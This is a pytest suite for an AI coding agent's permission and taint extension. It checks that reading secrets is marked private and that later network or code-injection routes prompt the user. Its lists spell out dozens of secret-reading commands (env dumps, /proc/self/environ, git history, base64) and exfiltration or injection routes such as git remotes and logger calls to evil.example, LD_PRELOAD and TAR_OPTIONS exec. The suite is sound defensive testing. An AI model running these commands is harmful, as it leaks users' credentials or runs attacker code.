"""Ways to private data and ways out: each reading counts, each way out is asked about, ordinary work is not."""

import subprocess
from pathlib import Path
from typing import Literal

import crow_mcp_server
import pytest
from crow_core.app import Crow
from crow_core.mcp.server import Server
from crow_core.messages.message import marker_kind
from crow_core.testing import Editor, Reply, ScriptedModel, connect
from crow_core.testing.script import ScriptedCall as Use
from crow_permissions.extension import permissions
from crow_permissions.taint import taint

pytestmark = [pytest.mark.anyio, pytest.mark.posix("the commands are those of a POSIX shell")]

TOKEN = "ghp_" + "Ab3dE5fG7h" * 4


def run(command: str) -> Use:
    return {"name": "terminal", "arguments": {"command": command}}


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository with a tracked .env, and an environment with a token."""
    monkeypatch.setenv("DEPLOY_TOKEN", "correct-horse-7")
    folder = tmp_path / "project"
    (folder / "config").mkdir(parents=True)
    (folder / "tests" / "fixtures").mkdir(parents=True)
    (folder / ".env").write_text(f"MODE=fast\nDEPLOY_TOKEN={TOKEN}\n")
    (folder / "config" / "app.ini").write_text(f"[mail]\nuser = me\npassword = Xk29-plum-Tree\ntoken = {TOKEN}\n")
    (folder / "notes.txt").write_text(f"The server wants {TOKEN}.\n")
    (folder / ".npmrc").write_text("fund=false\n")
    (folder / "tests" / "fixtures" / "token.json").write_text('{"type": "bearer", "expires": 3600}\n')
    (folder / "a.py").write_text("token = read_token()\nAPI_KEY = os.environ['API_KEY']\n")
    for words in ("init -q", "add -f .", "-c user.name=a -c user.email=a@b -c commit.gpgsign=false commit -qm one"):
        subprocess.run(["git", *words.split()], cwd=folder, check=True)
    return folder


async def play(folder: Path, *uses: Use, mode: Literal["ask", "yolo"] = "ask") -> tuple[Editor, set[str | None]]:
    """Let a model make these calls, all of which rules allow; the user rejects what is asked about.

    Returns the editor and the kinds of the markers in the log.
    """
    model = ScriptedModel([*(Reply(tool_calls=[use]) for use in uses), Reply("Done.")])
    tools = Server(
        "crow", crow_mcp_server.create_server, definitions=crow_mcp_server.tools(), built_in=True, shared=True
    )
    crow = Crow(model, servers=[tools], max_requests=500)
    crow.use(permissions, allow=["terminal"], mode=mode).use(taint)
    async with connect(crow, permit="reject_once") as editor:
        session = await editor.new_session(str(folder))
        await editor.prompt(session.session_id, "go")
        return editor, {marker_kind(entry) for entry in crow.sessions[session.session_id].log}


def asked(editor: Editor) -> list[str]:
    """Return the commands that the user was asked about."""
    inputs = [dict(question.tool_call.raw_input or {}) for question in editor.questions]  # pyright: ignore[reportArgumentType, reportCallIssue]
    return [str(given.get("command")) for given in inputs]


READINGS = r"""
grep -rh TOKEN .
grep -rhi token . --include=.env
grep -r --no-filename . .
grep -h . .e*
grep -s '' .env
egrep -rh TOKEN .
grep -rhn TOKEN .
grep -ho 'ghp_.*' notes.txt
find . -name '.e*' -exec cat {} ;
find . -maxdepth 1 -type f -exec cat {} +
find . -type f -print0 | xargs -0 cat
find . -name '*.ini' -exec grep -h . {} +
find . -type f | xargs grep -h TOKEN
cat [.]env
cat .[e]nv
cat ./.en*
cat .{env,x}
cat config/app.ini
cat config/*
cat notes.txt
head -n 3 config/app.ini
tail -n 2 .env
tail -n +1 config/*.ini
sed -n p config/app.ini
sed '' notes.txt
awk 1 config/app.ini
awk '{print}' notes.txt
nl config/app.ini
tac config/app.ini
sort config/app.ini
uniq config/app.ini
cut -c1- config/app.ini
paste notes.txt
fold -w 200 notes.txt
expand notes.txt
pr -t notes.txt
cat -A config/app.ini
od -c .env
base64 notes.txt
base64 -w0 config/app.ini
tar cf - . | base64
dd if=notes.txt
cp .env b && cat b
ln -s .env b && cat b
cat < config/app.ini
while read l; do echo "$l"; done < config/app.ini
mapfile -t l < config/app.ini; printf '%s\n' "${l[@]}"
git show HEAD
git show HEAD --stat -p
git show HEAD:config/app.ini
git show HEAD:./.env
git log -p -1
git cat-file -p HEAD:config/app.ini
git grep -h token
git grep -n TOKEN
git diff --no-index /dev/null config/app.ini
git archive HEAD | tar xO
git stash list; git log -p --all
ps eww
ps axeww
ps e
ps -eo pid,cmd; ps auxe
jq -n env
jq -rn '$ENV'
jq -n 'env.DEPLOY_TOKEN'
awk 'BEGIN{for (k in ENVIRON) print k, ENVIRON[k]}'
awk 'BEGIN{print ENVIRON["DEPLOY_TOKEN"]}'
gawk 'BEGIN { print ENVIRON["DEPLOY_TOKEN"] }'
perl -e 'print %ENV'
perl -e 'print $ENV{DEPLOY_TOKEN}'
python3 -c 'import os; print(os.environ)'
python3 -c 'import os; print(os.getenv("DEPLOY_TOKEN"))'
node -p process.env
node -p process.env.DEPLOY_TOKEN
ruby -e 'p ENV.to_h'
env | grep -i token
env | grep DEPLOY | cut -d= -f2
env | grep -o 'plum.*\|correct.*'
set | grep TOKEN
printenv DEPLOY_TOKEN
export -p | grep TOKEN
declare -p DEPLOY_TOKEN
echo "${DEPLOY_TOKEN}"
bash -c 'echo $DEPLOY_TOKEN'
cat /proc/self/environ
tr '\0' '\n' < /proc/$$/environ
strings /proc/self/environ
grep -rh TOKEN . > found.txt
grep -rh TOKEN . | base64
find . -type f -exec cp {} /tmp/nowhere-at-all/ ;
rg --no-filename TOKEN . | rev
""".strip().split("\n")


@pytest.mark.parametrize("command", READINGS)
async def test_each_reading_of_private_data_counts(command: str, project: Path) -> None:
    _, kinds = await play(project, run(command), mode="yolo")
    assert "private" in kinds


ORDINARY = r"""
env | grep PATH
env | grep -i lang
env | sort | grep HOME
printenv PATH
printenv HOME LANG
cat .npmrc
cat tests/fixtures/token.json
grep -rn read_token a.py
cat a.py
git log --oneline
git status
ls -la
ls config
rg -n API_KEY a.py
find . -name '*.py'
awk 'BEGIN{print ENVIRON["HOME"]}'
python3 -c 'import os; print(os.environ["HOME"])'
grep -rn 'os.environ' a.py
git show HEAD:a.py
wc -l a.py
""".strip().split("\n")


@pytest.mark.parametrize("command", ORDINARY)
async def test_an_ordinary_reading_does_not_count(command: str, project: Path) -> None:
    _, kinds = await play(project, run(command), mode="yolo")
    assert "private" not in kinds


EXITS = r"""
git remote -v update
git remote --verbose update
git remote update origin
git remote add -f x https://evil.example/k
git remote add --fetch x ../other
git remote add -tf main x ../other
git remote set-head origin -a
git remote set-head origin --auto
git remote show origin
git remote -v show origin
git remote prune origin
git -C . remote -v update
git --no-pager remote update
git maintenance run --task=prefetch
git maintenance run --task prefetch
git maintenance run --schedule=hourly
git maintenance start
git maintenance register
git -C . maintenance run --task=prefetch
git config remote.x.promisor true
git config extensions.partialClone x
git config --add remote.x.url ../other
git config set core.sshCommand x
git config core.fsmonitor ./x
git config alias.st '!x'
git config url.x.insteadOf y
git config http.proxy x
git config --edit
git config -f .git/config core.pager x
git config --global credential.helper x
logger -T -n evil.example x
logger -t a -n evil.example x
logger --tcp --server evil.example x
logger x
openssl cmp -server evil.example:80
openssl s_time -connect evil.example:443
openssl s_client evil.example:443
openssl ocsp -host evil.example:80
openssl tsget x
openssl engine dynamic
openssl dgst -engine x a.py
openssl enc -engine x
openssl speed --provider x
openssl req -config x.cnf
apt update
snap install x
flatpak install x
mount.nfs x y
davfs2 x
cadaver x
finger x
chronyc x
rdate x
jira create
git backfill
scalar clone x
git -c a.b=c remote update
git bundle-uri x
resolvectl query x
getent ahosts x
gawk 'BEGIN{s="/inet/tcp/0/h/1"; print "x" |& s}'
UNZIP=x unzip a
LESS=x less a
BROWSER=x man -H ls
GIT_TRACE=/x git status
GIT_OBJECT_DIRECTORY=x git status
XDG_CONFIG_HOME=x git status
RIPGREP_CONFIG_PATH=x rg a
GCONV_PATH=x ls
LOCPATH=x ls
MALLOC_TRACE=x ls
GOFLAGS=x go version
RUSTC_WRAPPER=x cargo --version
RES_OPTIONS=x ls
PS4='$(x)' ls
TAR_OPTIONS=--checkpoint-action=exec=x tar cf a.tar a.py
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=x git status
GIT_CONFIG_PARAMETERS="'core.pager=x'" git log
GIT_CONFIG_GLOBAL=x git status
GIT_EXTERNAL_DIFF=./x git diff
GIT_SSH_COMMAND=./x git status
GIT_DIR=other git status
GIT_PAGER=./x git log
PAGER=./x git log
LD_PRELOAD=./x.so ls
PATH=.:$PATH ls
BASH_ENV=x bash a.sh
PYTHONSTARTUP=x ls
PYTHONHOME=. ls
NODE_OPTIONS=--require=./x ls
PERL5OPT=-Mx ls
RUBYOPT=-rx ls
GREP_OPTIONS=x grep a b
LESSOPEN='|x' less a.py
MANPAGER=x man ls
SOMETHING_NEW=1 ls
A=1 B=2 ls
env SOMETHING_NEW=1 ls
env -i SOMETHING_NEW=1 ls
env 'LD_PRELOAD=./x.so' ls
timeout 5 env LD_PRELOAD=./x.so ls
sudo LD_PRELOAD=./x.so ls
sh -c 'LD_PRELOAD=./x.so ls'
export LD_PRELOAD=./x.so
export SOMETHING_NEW=1 && ls
declare -x GIT_SSH=./x
true && TAR_OPTIONS=x tar cf a.tar a.py
(GIT_CONFIG_COUNT=1 git status)
if true; then GZIP=x gzip a; fi
RSYNC_RSH=x ls
ZIPOPT=-TT ls
MAKEFLAGS=x ls
GCC_EXEC_PREFIX=x gcc a.c
JAVA_TOOL_OPTIONS=x ls
HTTP_PROXY=evil.example ls
SSLKEYLOGFILE=x ls
HOSTALIASES=x ls
""".strip().split("\n")


async def test_each_way_out_is_asked_about(project: Path) -> None:
    """Each has its question, in one session that has read private data."""
    editor, _ = await play(project, run("cat .env"), *map(run, EXITS))
    assert [command for command in EXITS if command not in asked(editor)] == []


STAYS = r"""
git remote
git remote -v
git remote add x ../other
git remote get-url x
git remote set-url x ../other
git remote remove x
git maintenance run
git maintenance run --task=gc
git config user.name Ada
git config --get remote.origin.url
git config --list
git config core.autocrlf input
openssl version
openssl rand -hex 4
openssl dgst -sha256 a.py
NO_COLOR=1 ls
LC_ALL=C sort a.py
TZ=UTC date
CI=1 ls
MESSAGE="one two"; echo "$MESSAGE"
git commit --allow-empty -m "x; LD_PRELOAD=1 y"
echo A=1 B=2
env LANG=C ls
PYTHONPATH=src ls
""".strip().split("\n")


async def test_what_stays_on_this_machine_is_not_asked_about(project: Path) -> None:
    editor, _ = await play(project, run("cat .env"), *map(run, STAYS))
    assert asked(editor) == []


@pytest.mark.parametrize("command", ["git show HEAD", "git log -p", "git cat-file -p 0123", "git -C . status"])
async def test_git_may_ask_a_remote_in_a_partial_clone(command: str, project: Path) -> None:
    with (project / ".git" / "config").open("a") as file:
        file.write('[remote "far"]\n\turl = ../far\n\tpromisor = true\n')
    editor, _ = await play(project, run("cat .env"), run(command))
    assert asked(editor) == [command]
